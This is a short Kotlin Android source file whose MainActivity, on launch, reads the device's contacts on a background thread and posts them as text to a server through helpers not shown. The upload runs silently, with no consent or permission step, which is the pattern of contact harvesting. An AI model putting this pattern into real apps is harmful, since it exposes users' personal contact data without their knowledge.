package com.example.ktdata

import android.app.Activity
import android.os.Bundle
import kotlin.concurrent.thread

/** Reads and sends on a thread of its own. */
class MainActivity : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        thread { Server.post(contentResolver.people().toText()) }
    }
}
